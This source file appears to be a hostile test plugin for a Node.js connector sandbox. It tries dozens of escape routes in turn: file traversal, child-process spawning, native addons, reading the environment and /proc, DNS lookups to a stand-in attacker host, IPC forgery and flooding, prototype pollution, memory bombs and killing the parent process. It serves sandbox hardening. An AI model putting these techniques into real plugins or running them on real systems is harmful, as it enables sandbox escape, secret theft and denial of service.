/**
 * A plugin that tries to get out, one way at a time. Each attempt tells what it got hold of; a refusal is an error. Written
 * as an attacker would: without the connector contract, straight at the process.
 */
import { createRequire } from 'node:module';
import fs from 'node:fs';

const require = createRequire(import.meta.url);
const forge = (text) => fs.writeSync(3, text.endsWith('\n') ? text : `${text}\n`);
const settle = (milliseconds) => new Promise((resolve) => setTimeout(resolve, milliseconds));

/** First success of several ways to the same end; throws when none works. */
async function anyOf(...ways) {
  const refusals = [];
  for (const way of ways) {
    try {
      const got = await way();
      if (got === undefined) throw new Error('nothing');
      return { got: String(got) };
    } catch (refused) {
      refusals.push(refused?.code ?? refused?.message ?? String(refused));
    }
  }
  throw new Error(`refused: ${refusals.join('; ')}`);
}

const heard = (emitter, event) =>
  new Promise((resolve, reject) => {
    emitter.once(event, resolve);
    emitter.once('error', reject);
    setTimeout(() => reject(new Error('silence')), 1_000);
  });

const attempts = {
  read_file: ({ file }) =>
    anyOf(
      () => fs.readFileSync(file, 'utf8'),
      () => fs.promises.readFile(file, 'utf8'),
      () => fs.openSync(file),
      () => fs.readdirSync('/'),
      () => fs.statSync(file).size,
      () => fs.readFileSync(`${process.cwd()}/../../../../../../../../../../../../${file}`, 'utf8'),
      () => import(file),
      () => require(file),
      () => fs.createReadStream(file).toArray(),
      () => fs.symlinkSync(file, `${process.cwd()}/link`) ?? 'linked',
      () => fs.readlinkSync('/proc/self/exe'),
    ),
  write_file: ({ file }) =>
    anyOf(
      () => fs.writeFileSync(file, 'x') ?? 'written',
      () => fs.writeFileSync(`${process.cwd()}/new-file`, 'x') ?? 'written',
      () => fs.appendFileSync(new URL(import.meta.url), ' ') ?? 'written',
      () => fs.mkdirSync(`${file}.d`) ?? 'made',
      () => fs.unlinkSync(file) ?? 'removed',
      () => fs.renameSync(file, `${file}.moved`) ?? 'moved',
      () => fs.mkdtempSync(`${file}.escaped-`),
      () => process.report.writeReport(`${file}.report`),
      () => require('node:v8').writeHeapSnapshot(`${file}.heap`),
      () => heard(fs.createWriteStream(file), 'open'),
    ),
  child_process: () =>
    anyOf(
      () => require('node:child_process').execSync('id'),
      () => require('node:child_process').spawnSync('id').pid,
      () => heard(require('node:child_process').spawn('id'), 'spawn'),
      () => require('node:child_process').fork(import.meta.filename).pid,
      () => require('node:cluster').fork(),
      () => process.execve('/bin/true', ['true'], {}),
    ),
  worker: () =>
    anyOf(
      () => new (require('node:worker_threads').Worker)('1', { eval: true }),
      () => new (require('node:worker_threads').Worker)(new URL(import.meta.url)),
    ),
  binding: () =>
    anyOf(
      () => process.binding('fs'),
      () => process.binding('process_wrap'),
      () => process._linkedBinding('fs'),
      () => process.getBuiltinModule('internal/test/binding'),
      () => require('internal/bootstrap/realm'),
    ),
  tcp: ({ port }) =>
    anyOf(
      () => heard(require('node:net').connect(port, '127.0.0.1'), 'connect'),
      () => heard(require('node:tls').connect(port, '127.0.0.1'), 'secureConnect'),
      () => heard(require('node:net').connect('/var/run/postgresql/.s.PGSQL.5432'), 'connect'),
      () => heard(require('node:net').createServer().listen(0), 'listening'),
    ),
  http: ({ port }) =>
    anyOf(
      () => heard(require('node:http').get(`http://127.0.0.1:${port}/`), 'response'),
      () => heard(require('node:https').get(`https://127.0.0.1:${port}/`), 'response'),
      () => heard(require('node:http2').connect(`http://127.0.0.1:${port}/`), 'connect'),
      () => heard(require('node:http').createServer().listen(0), 'listening'),
    ),
  own_fetch: ({ port }) =>
    anyOf(
      async () => (await fetch(`http://127.0.0.1:${port}/`)).status,
      () =>
        new Promise((resolve, reject) => {
          const socket = new WebSocket(`ws://127.0.0.1:${port}/`);
          socket.onopen = resolve;
          socket.onerror = () => reject(new Error('refused'));
        }),
    ),
  dns: () =>
    anyOf(
      async () => (await require('node:dns').promises.lookup('localhost')).address,
      () => require('node:dns').promises.resolve('secret.attacker.example'),
      () => new (require('node:dns').promises.Resolver)().resolve4('secret.attacker.example'),
      () =>
        new Promise((resolve, reject) =>
          require('node:dns').lookupService('127.0.0.1', 22, (no, host) => (no ? reject(no) : resolve(host))),
        ),
    ),
  udp: ({ port }) =>
    anyOf(
      () =>
        new Promise((resolve, reject) => {
          const socket = require('node:dgram').createSocket('udp4');
          socket.on('error', reject);
          socket.send('secret', port, '127.0.0.1', (no) => (no ? reject(no) : resolve('sent')));
        }),
    ),
  environment: async () => {
    const all = { ...process.env };
    const more = await anyOf(
      () => fs.readFileSync('/proc/self/environ', 'utf8'),
      () => fs.readFileSync(`/proc/${process.ppid}/environ`, 'utf8'),
      () => process.loadEnvFile('/etc/environment'),
    ).catch(() => ({ got: '' }));
    if (Object.keys(all).length === 0 && more.got === '') throw new Error('refused: nothing there');
    return { got: `${JSON.stringify(all)}${more.got}` };
  },
  inspector: () =>
    anyOf(
      () => require('node:inspector').open(0) ?? 'open',
      () => new (require('node:inspector').Session)().connect() ?? 'connected',
      async () => (await import('node:inspector/promises')).Session,
      () => process._debugProcess(process.ppid) ?? 'opened',
    ),
  wasi: () => anyOf(() => new (require('node:wasi').WASI)({ version: 'preview1', preopens: { '/': '/' } })),
  addon: ({ file }) =>
    anyOf(
      () => process.dlopen({ exports: {} }, file) ?? 'loaded',
      () => process.dlopen({ exports: {} }, `${process.cwd()}/native.node`) ?? 'loaded',
      () => require('./native.node'),
      () => require('node:ffi').dlopen,
    ),
  kill: ({ pid }) =>
    anyOf(
      () => process.kill(pid, 'SIGKILL'),
      () => process.kill(process.ppid, 'SIGKILL'),
      () => process._kill(pid, 9),
      () => Reflect.get(process, 'kill').call(process, pid, 9),
      () => process.getBuiltinModule('process').kill(pid, 9),
      () => require('node:process').kill(pid, 9),
      () => require('node:os').setPriority(pid, 19) ?? 'slowed',
      () => process.getBuiltinModule('os').setPriority(pid, 19) ?? 'slowed',
      () => {
        const { ChildProcess } = require('node:child_process');
        return new ChildProcess()._handle.kill(9);
      },
    ),
  foreign_code: ({ file }) =>
    anyOf(
      async () => (await import('data:text/javascript,export default 1')).default,
      () => import('https://example.com/x.mjs'),
      () => import(`file://${file}`),
      () => import('../../own-company.spec.ts'),
      () => require('zod'),
      () => import('pg'),
    ),
  code_from_text: () =>
    anyOf(
      () => globalThis[['ev', 'al'].join('')]('1'),
      () => attempts.loop.constructor('return 1')(),
      () => attempts.remember.constructor('return 1')(),
    ),
  database_file: ({ file }) =>
    anyOf(
      () => new (require('node:sqlite').DatabaseSync)(`${file}.db`).exec('create table a (b)') ?? 'made',
      async () => new (await import('node:sqlite')).DatabaseSync(':memory:').exec(`attach '${file}.db' as x`) ?? 'made',
      () => process.getBuiltinModule('node:sqlite').DatabaseSync.name,
      () => localStorage.setItem('a', 'b') ?? 'kept',
    ),
  own_hooks: () =>
    anyOf(
      () => require('node:module').registerHooks({}),
      () => require('node:module').register('data:text/javascript,1') ?? 'hooked',
      () => require('node:module')._load('node:child_process').execSync('id'),
      () => require('node:v8').setFlagsFromString('--allow-natives-syntax') ?? 'set',
      () => process.permission.has('fs.write') && 'may write',
    ).then((found) => {
      if (found.got === 'false') throw new Error('refused');
      return found;
    }),
  pollute: async () => {
    forge('{"say":"log","id":"x","line":"y","__proto__":{"polluted":"yes"}}');
    await settle(200);
    return { got: 'nothing yet' };
  },
  polluted_answer: () =>
    JSON.parse('{"got":"x","__proto__":{"polluted":"yes"},"constructor":{"prototype":{"polluted":"yes"}}}'),
  forged_answer: async ({ id }) => {
    forge(JSON.stringify({ say: 'done', id, value: { got: 'forged' } }));
    await settle(5_000);
    return { got: 'still here' };
  },
  forged_request: async ({ id }) => {
    forge(JSON.stringify({ say: 'call', id, job: { do: 'run' }, lent: {} }));
    await settle(5_000);
    return { got: 'still here' };
  },
  garbage: async () => {
    fs.writeSync(3, Buffer.from([0xff, 0xfe, 0, 10]));
    await settle(5_000);
    return { got: 'still here' };
  },
  oversized: async () => {
    const piece = 'x'.repeat(1_000_000);
    for (let n = 0; n < 64; n++) fs.writeSync(3, piece);
    await settle(5_000);
    return { got: 'still here' };
  },
  message_flood: async () => {
    const batch = '{"say":"give_up","id":"00000000-0000-4000-8000-000000000000","ask":1}\n'.repeat(1_000);
    for (let n = 0; n < 2_000; n++, await settle(1)) forge(batch);
    return { got: 'still here' };
  },
  reach: async ({ url, headers }, context) => {
    const answer = await context.fetch(url, { headers });
    return { got: `${answer.status} ${await answer.text()}` };
  },
  raw_connection: async (_input, context) => {
    await context.connect({ host: '127.0.0.1', port: 5432, tls: false });
    return { got: 'connected' };
  },
  loop: () => {
    for (;;);
  },
  loop_after_sending: async ({ url }, context) => {
    await context.fetch(url, { method: 'POST', body: 'x' });
    for (;;);
  },
  microtasks: async () => {
    for (;;) await Promise.resolve();
  },
  heap_bomb: () => {
    const kept = [];
    for (;;) kept.push(Array.from({ length: 10_000 }, () => ({ a: Math.random() })));
  },
  buffer_bomb: async () => {
    const kept = [];
    for (;;) {
      kept.push(Buffer.alloc(8_000_000, 1));
      await settle(1);
    }
  },
  exit: () => process.exit(0),
  abort: () => process.abort(),
  uncaught: () => {
    setTimeout(() => {
      throw new Error('nobody catches this');
    }, 1);
    return settle(5_000);
  },
  rejections: async () => {
    for (let n = 0; n < 50_000; n++) void Promise.reject(new Error(`storm ${n}`));
    await settle(50);
    return { got: 'calm' };
  },
  output_flood: async () => {
    const line = 'x'.repeat(100_000);
    for (let n = 0; n < 500; n++) {
      fs.writeSync(1, line);
      fs.writeSync(2, line);
      console.log(line.slice(0, 100));
    }
    return { got: 'written' };
  },
  log_flood: async (_input, context) => {
    for (let n = 0; n < 4_000; n++) context.log(`line ${n}`);
    return { got: 'logged' };
  },
  remember: async (_input, context) => {
    globalThis.seen ??= [];
    globalThis.seen.push(JSON.stringify(context.auth));
    return { got: globalThis.seen.join(' ') };
  },
};

const text = { type: 'object', properties: { got: { type: 'string' } } };

export default {
  id: 'evil',
  name: 'Evil',
  auth: { kind: 'key' },
  health: async () => ({ id: 'evil', label: 'Evil' }),
  actions: {
    attempt: { run: async (context, { name, ...input }) => attempts[name](input, context) },
  },
  triggers: {},
};

export const describe = () => ({ schema: text });
export class Secret {}
